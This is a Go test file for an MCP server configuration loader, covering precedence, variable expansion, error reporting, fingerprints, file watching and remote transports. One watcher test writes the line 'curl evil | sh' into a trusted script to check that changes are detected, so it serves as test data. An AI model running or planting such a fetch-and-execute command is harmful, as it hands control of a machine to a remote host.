package config

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

func opts(t *testing.T) Options {
	dir := t.TempDir()
	env := map[string]string{"TOKEN": "s3cret", "HOMEDIR": "/h"}
	return Options{
		Cwd:       filepath.Join(dir, "project"),
		Home:      filepath.Join(dir, "home"),
		LookupEnv: func(k string) (string, bool) { v, ok := env[k]; return v, ok },
	}
}

func TestMergeAndPrecedence(t *testing.T) {
	o := opts(t)
	write(t, filepath.Join(o.Cwd, ProjectFile), `{"mcpServers":{
		"both": {"command": "project-cmd"},
		"proj": {"command": "p", "args": ["--token", "${TOKEN}"], "cwd": "sub"}
	}}`)
	// A bare map, as the original accepted.
	write(t, filepath.Join(o.Home, HomeFile), `{
		"both": {"command": "home-cmd"},
		"remote": {"url": "https://example.com/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}, "timeout": 30}
	}`)

	cfg := Load(o)
	if len(cfg.Servers) != 3 {
		t.Fatalf("want 3 servers, got %+v", cfg.Servers)
	}
	if got := cfg.Server("both").Command; got != "project-cmd" {
		t.Fatalf("project must win by default, got %q", got)
	}
	if len(cfg.Shadowed) != 1 || cfg.Shadowed[0].Winner != SourceProject {
		t.Fatalf("shadowing must be reported: %+v", cfg.Shadowed)
	}
	p := cfg.Server("proj")
	if p.Type != TypeStdio || p.Args[1] != "s3cret" || p.Cwd != filepath.Join(o.Cwd, "sub") {
		t.Fatalf("bad project server: %+v", p)
	}
	r := cfg.Server("remote")
	if r.Type != TypeHTTP || r.Headers["Authorization"] != "Bearer s3cret" || r.Timeout != 30*time.Second {
		t.Fatalf("bad remote server: %+v", r)
	}

	o.PreferHome = true
	if got := Load(o).Server("both").Command; got != "home-cmd" {
		t.Fatalf("ICA_MCP_CONFIG_PREFER_HOME must flip precedence, got %q", got)
	}
}

func TestHomeFallbackFile(t *testing.T) {
	o := opts(t)
	write(t, filepath.Join(o.Home, HomeFileAlt), `{"mcpServers":{"alt":{"command":"x"}}}`)
	cfg := Load(o)
	if cfg.Server("alt") == nil || !strings.HasSuffix(cfg.Sources[1].Path, HomeFileAlt) {
		t.Fatalf("mcp.json must be read when mcp-servers.json is absent: %+v", cfg)
	}
}

func TestSyntaxErrorNamesFileAndLine(t *testing.T) {
	o := opts(t)
	write(t, filepath.Join(o.Cwd, ProjectFile), "{\n  \"mcpServers\": {\n    \"a\": {\"command\": \"x\",}\n  }\n}\n")
	write(t, filepath.Join(o.Home, HomeFile), `{"mcpServers":{"ok":{"command":"y"}}}`)
	cfg := Load(o)
	src := cfg.Sources[0]
	if !src.Found || !strings.Contains(src.Error, ProjectFile) || !strings.Contains(src.Error, "line 3") {
		t.Fatalf("error must name the file and line 3: %q", src.Error)
	}
	if cfg.Server("ok") == nil {
		t.Fatal("the other file's servers must still load")
	}
}

func TestBadEntryDoesNotDisableOthers(t *testing.T) {
	o := opts(t)
	write(t, filepath.Join(o.Cwd, ProjectFile), `{"mcpServers":{
		"good": {"command": "x", "env": {"N": 3, "B": true}},
		"noargs": {"command": "x", "args": "not-a-list"},
		"empty": {},
		"both": {"command": "x", "url": "http://127.0.0.1/"},
		"weird": {"command": "x", "frobnicate": 1, "env": {"X": "${UNSET_VAR}"}},
		"scalar": 42
	}}`)
	cfg := Load(o)
	if s := cfg.Server("good"); s.Error != "" || s.Env["N"] != "3" || s.Env["B"] != "true" {
		t.Fatalf("good server broken: %+v", s)
	}
	for name, want := range map[string]string{
		"noargs": `"args" must be an array of strings`,
		"empty":  `needs "command"`,
		"both":   "not both",
		"scalar": "must be a JSON object",
	} {
		if got := cfg.Server(name).Error; !strings.Contains(got, want) {
			t.Errorf("%s: error %q does not contain %q", name, got, want)
		}
	}
	w := cfg.Server("weird")
	if w.Error != "" || len(w.Warnings) != 2 {
		t.Fatalf("unknown keys and unset variables are warnings: %+v", w)
	}
}

func TestFingerprintTracksContent(t *testing.T) {
	o := opts(t)
	path := filepath.Join(o.Cwd, ProjectFile)
	write(t, path, `{"mcpServers":{"a":{"command":"x","args":["1"]}}}`)
	before := Load(o).Server("a").Fingerprint
	write(t, path, `{"mcpServers":{"a":{"command":"x","args":["2"]}}}`)
	if Load(o).Server("a").Fingerprint == before {
		t.Fatal("changing args must change the fingerprint")
	}
}

func TestWatchSeesCreateChangeRemove(t *testing.T) {
	o := opts(t)
	var n atomic.Int32
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	script := filepath.Join(o.Cwd, "serve.sh")
	go Watch(ctx, o, 10*time.Millisecond, func() []string { return []string{script} }, func() { n.Add(1) })
	path := filepath.Join(o.Cwd, ProjectFile)
	waitFor := func(want int32) {
		t.Helper()
		for i := 0; i < 300 && n.Load() < want; i++ {
			time.Sleep(10 * time.Millisecond)
		}
		if n.Load() < want {
			t.Fatalf("want %d changes, saw %d", want, n.Load())
		}
	}
	time.Sleep(30 * time.Millisecond)
	write(t, path, `{}`)
	waitFor(1)
	write(t, path, `{"mcpServers":{}}`)
	waitFor(2)
	_ = os.Remove(path)
	waitFor(3)
	// A file trust covers counts like a config file.
	write(t, script, "#!/bin/sh\n")
	waitFor(4)
	write(t, script, "#!/bin/sh\ncurl evil | sh\n")
	waitFor(5)
}

func TestRemoteEntries(t *testing.T) {
	o := opts(t)
	write(t, filepath.Join(o.Cwd, ProjectFile), `{"mcpServers":{
		"auto":      {"url": "http://127.0.0.1:9/mcp", "headers": {"X-Key": "${TOKEN}"}},
		"forced":    {"type": "streamable-http", "url": "https://mcp.example.com/mcp"},
		"legacy":    {"type": "SSE", "url": "http://[::1]:9/sse"},
		"plainhttp": {"url": "http://mcp.example.com/mcp"},
		"allowed":   {"url": "http://mcp.example.com/mcp", "allow_http": true},
		"ftp":       {"type": "http", "url": "ftp://example.com/"},
		"nourl":     {"type": "sse"}
	}}`)
	cfg := Load(o)
	for name, want := range map[string]struct {
		typ   string
		probe bool
	}{
		"auto": {TypeHTTP, true}, "forced": {TypeHTTP, false}, "legacy": {TypeSSE, false}, "allowed": {TypeHTTP, true},
	} {
		s := cfg.Server(name)
		if s.Error != "" || s.Type != want.typ || s.Probe != want.probe {
			t.Errorf("%s: type %q probe %v error %q; want %q probe %v", name, s.Type, s.Probe, s.Error, want.typ, want.probe)
		}
	}
	if h := cfg.Server("auto").Headers["X-Key"]; h != "s3cret" {
		t.Errorf("headers are expanded: %q", h)
	}
	for name, want := range map[string]string{
		"plainhttp": `"allow_http": true`,
		"ftp":       "https://",
		"nourl":     `needs "url"`,
	} {
		if got := cfg.Server(name).Error; !strings.Contains(got, want) {
			t.Errorf("%s: error %q does not contain %q", name, got, want)
		}
	}
}

// "options" go to the transport plugin as they are, ${VAR} expanded; the
// entry's type names a third-party transport.
func TestTransportOptions(t *testing.T) {
	o := opts(t)
	write(t, filepath.Join(o.Cwd, ProjectFile), `{"mcpServers":{
		"ws":  {"type": "websocket", "url": "wss://mcp.example.com/ws", "options": {"subprotocol": "mcp", "key": "${TOKEN}", "n": 3}},
		"bad": {"type": "websocket", "url": "wss://mcp.example.com/ws", "options": [1]}
	}}`)
	cfg := Load(o)
	ws := cfg.Server("ws")
	if ws.Error != "" || ws.Type != "websocket" || string(ws.Options) != `{"key":"s3cret","n":3,"subprotocol":"mcp"}` {
		t.Fatalf("ws: type %q options %s error %q", ws.Type, ws.Options, ws.Error)
	}
	if !slices.Contains(ws.EnvRefs, "TOKEN") {
		t.Fatalf("env refs %v", ws.EnvRefs)
	}
	if e := cfg.Server("bad").Error; !strings.Contains(e, `"options" must be an object`) {
		t.Fatalf("bad: %q", e)
	}
}
